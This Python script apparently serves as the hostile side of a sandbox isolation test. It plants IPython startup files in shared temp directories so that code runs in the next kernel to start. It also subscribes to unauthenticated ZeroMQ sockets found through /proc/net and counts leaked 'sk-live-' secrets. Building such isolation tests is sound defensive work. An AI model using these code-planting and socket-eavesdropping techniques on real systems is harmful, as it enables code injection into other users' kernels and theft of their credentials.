# The hostile command of contexts/kernels_are_out_of_every_commands_reach: run as
# `python3 -s kernel_attack.py` (no user site: the .pth planted for the kernel must not be run
# by the attacker itself). Until the file `attacker-stop` appears in its working directory
# (20 s at most) it
#  - plants an IPython startup file in every IPython directory it can reach in /tmp,
#    /var/tmp and /dev/shm, to run in the next kernel that starts;
#  - subscribes to every listening socket it can find (loopback TCP ports and the paths of
#    /proc/net/unix, as ZeroMQ SUB: no key is needed to subscribe) and counts the messages
#    that carry the victim's secret;
# then writes what it did to `attacker-result`.
import os, sys, time
cwd = os.getcwd()
try:
    import zmq
    ctx = zmq.Context()
except ImportError:
    zmq = None
def plant(d):
    try:
        s = os.path.join(d, 'profile_default', 'startup')
        os.makedirs(s, exist_ok=True)
        with open(os.path.join(s, '00-x.py'), 'w') as f:
            f.write("open(%r, 'w').write('x')\n" % os.path.join(cwd, 'planted-startup'))
        return 1
    except OSError:
        return 0
def endpoints():
    eps = set()
    for f, fmt in (('/proc/net/tcp', 'tcp://127.0.0.1:%d'), ('/proc/net/tcp6', 'tcp://[::1]:%d')):
        try:
            for l in open(f).readlines()[1:]:
                p = l.split()
                if p[3] == '0A':
                    eps.add(fmt % int(p[1].split(':')[1], 16))
        except OSError:
            pass
    try:
        for l in open('/proc/net/unix').readlines()[1:]:
            p = l.split()
            if len(p) >= 8 and p[3] == '00010000':
                eps.add('ipc://' + p[7])
    except OSError:
        pass
    return eps
subs, tried, planted, seen, scan = [], set(), 0, 0, 0
open('attacker-ready', 'w').close()
end = time.time() + 20
while time.time() < end and not os.path.exists('attacker-stop'):
    for root in ('/tmp', '/var/tmp', '/dev/shm'):
        try:
            names = os.listdir(root)
        except OSError:
            continue
        for e in names:
            if 'ipython' in e.lower() or e.startswith('sbxd'):
                p = os.path.join(root, e)
                planted += plant(p)
                try:
                    for e2 in os.listdir(p):
                        planted += plant(os.path.join(p, e2)) + plant(os.path.join(p, e2, 'ipython'))
                except OSError:
                    pass
    if zmq and time.time() > scan:
        scan = time.time() + 0.1
        for ep in endpoints() - tried:
            tried.add(ep)
            s = ctx.socket(zmq.SUB)
            s.setsockopt(zmq.LINGER, 0)
            s.setsockopt(zmq.RECONNECT_IVL, -1)
            s.setsockopt(zmq.SUBSCRIBE, b'')
            try:
                s.connect(ep)
                subs.append(s)
            except zmq.ZMQError:
                s.close()
    for s in subs:
        try:
            while True:
                seen += any(b'sk-live-' in f for f in s.recv_multipart(zmq.NOBLOCK))
        except zmq.ZMQError:
            pass
    time.sleep(0.0005)
with open("attacker-result.tmp", "w") as f:
    f.write("endpoints %d planted %d seen %d\n" % (len(tried), planted, seen))
os.rename("attacker-result.tmp", "attacker-result")
